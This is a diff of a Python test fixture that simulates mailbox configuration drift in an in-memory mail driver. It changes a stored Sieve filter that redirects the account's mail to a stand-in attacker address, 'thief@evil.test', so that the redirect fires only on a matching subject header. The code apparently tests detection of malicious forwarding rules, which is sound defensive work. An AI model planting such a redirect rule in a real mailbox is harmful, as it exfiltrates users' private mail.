@@ -25,7 +25,7 @@ def drifted(mailbox, server, committed):
     MemoryDriver.accounts["example0001"] = replace(
         MemoryDriver.accounts["example0001"], quota_bytes=3 * 1024**3
     )
-    MemoryDriver.own_scripts["example0001"] = 'redirect "thief@evil.test";'
+    MemoryDriver.own_scripts["example0001"] = 'if header "subject" "x" { redirect "thief@evil.test"; }'
     with committed():
         drift.request_check(server)
     return mailbox
